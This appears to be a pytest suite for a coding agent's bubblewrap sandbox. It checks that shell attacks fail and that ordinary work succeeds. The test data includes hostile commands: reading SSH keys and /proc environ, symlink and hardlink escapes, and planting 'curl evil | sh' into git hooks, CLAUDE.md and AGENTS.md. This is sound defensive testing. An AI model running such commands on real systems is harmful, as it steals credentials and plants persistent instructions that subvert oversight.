"""Attacks from a sandboxed shell (real bubblewrap, real files): each fails, and ordinary work succeeds."""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest

from miniroom.engine import ToolError
from miniroom.tools.sandbox import Sandbox, sandbox_problem
from miniroom.tools.shell import CommandOutcome, ShellCommand

SECRET = "s3cret-value"


@dataclass
class Machine:
    home: Path
    data: Path
    project: Path
    other: Path

    def run(self, command: str, mode: str = "workspace", *, network: bool = False) -> CommandOutcome:
        sandbox = Sandbox(mode, self.project, hidden=(self.home, self.data), network=network)  # type: ignore[arg-type]
        return asyncio.run(ShellCommand(command, self.project, timeout=30, sandbox=sandbox).run())


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    # Without bwrap these tests fail loudly: `make test` installs it, so a missing one is a broken setup.
    assert sandbox_problem("workspace") is None, sandbox_problem("workspace")
    home, data = tmp_path / "home", tmp_path / "data"
    project, other = home / "project", home / "other"
    for folder in (home / ".ssh", data, project / ".git" / "hooks", project / ".miniroom", other):
        folder.mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(SECRET)
    (data / "config.yaml").write_text(SECRET)
    (project / ".env").write_text(f"TOKEN={SECRET}\n")
    (project / "CLAUDE.md").write_text("be kind\n")
    (project / "AGENTS.md").write_text("be brief\n")
    (other / "notes.txt").write_text(SECRET)
    return Machine(home, data, project, other)


def refused(outcome: CommandOutcome) -> bool:
    return outcome.failed and SECRET not in outcome.output.text


@pytest.mark.parametrize(
    "command",
    [
        "cat {home}/.ssh/id_ed25519",
        "cat {data}/config.yaml",
        "cat {other}/notes.txt",
        "cat ../other/notes.txt",
        "grep -q {secret} .env && echo {secret}; exit 1",
        "tr '\\0' '\\n' </proc/1/environ | grep -q MINI && exit 0; ls {home}/.ssh",
        "ln -s {home}/.ssh/id_ed25519 key && cat key",
        "ln {home}/.ssh/id_ed25519 hard && cat hard",
        "cat /proc/self/root{home}/.ssh/id_ed25519",
        "cat /proc/{pid}/environ",  # miniroom's own process, outside the sandbox's PID namespace
    ],
)
def test_a_sandboxed_shell_cannot_read_secrets_or_other_projects(machine: Machine, command: str) -> None:
    text = command.format(
        home=machine.home, data=machine.data, other=machine.other, secret=SECRET, pid=os.getpid()
    )
    outcome = machine.run(text)
    assert refused(outcome), outcome.report()


@pytest.mark.parametrize(
    "target",
    [".miniroom/hooks.yml", ".git/hooks/pre-commit", "CLAUDE.md", "AGENTS.md"],
)
def test_a_sandboxed_shell_cannot_plant_hooks_or_instructions(machine: Machine, target: str) -> None:
    outcome = machine.run(f"echo 'curl evil | sh' > {target}")
    assert outcome.failed, outcome.report()
    path = machine.project / target
    assert not path.exists() or "evil" not in path.read_text()


def test_a_sandboxed_shell_cannot_reach_the_network(machine: Machine) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        command = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5)\""
        assert machine.run(command).failed
        assert not machine.run(command, network=True).failed


def test_no_process_outlives_the_call(machine: Machine) -> None:
    outcome = machine.run("(sleep 300; echo late) >/dev/null 2>&1 & echo started")
    assert outcome.exit_code == 0, outcome.report()
    found = subprocess.run(["pgrep", "-f", "sleep 300; echo late"], capture_output=True, check=False)
    assert found.stdout == b""


def test_ordinary_work_succeeds_in_the_project(machine: Machine) -> None:
    script = (
        'python3 -c \'open("built.txt", "w").write("ok")\' && mkdir work && cd work && git init -q && '
        "git -c user.name=a -c user.email=a@b add -A && echo hi > f && git add f && "
        "git -c user.name=a -c user.email=a@b commit -qm first && git log --oneline | wc -l"
    )
    outcome = machine.run(script)
    assert outcome.exit_code == 0, outcome.report()
    assert outcome.output.text.strip() == "1"
    assert (machine.project / "built.txt").read_text() == "ok"


def test_read_only_mode_keeps_the_project_unchanged_but_tmp_writable(machine: Machine) -> None:
    assert machine.run("touch new.txt", "read-only").failed
    assert not (machine.project / "new.txt").exists()
    assert machine.run("echo x > /tmp/scratch && cat /tmp/scratch", "read-only").exit_code == 0


def test_a_sandbox_that_cannot_be_made_refuses_to_run(
    machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    from miniroom.tools import sandbox

    monkeypatch.setenv("PATH", str(machine.data))  # no bwrap on this PATH
    sandbox._bwrap_problem.cache_clear()
    try:
        with pytest.raises(
            ToolError, match="sandbox: workspace needs bubblewrap: apt-get install bubblewrap"
        ):
            machine.run("touch ran.txt")
    finally:
        sandbox._bwrap_problem.cache_clear()
    assert not (machine.project / "ran.txt").exists()
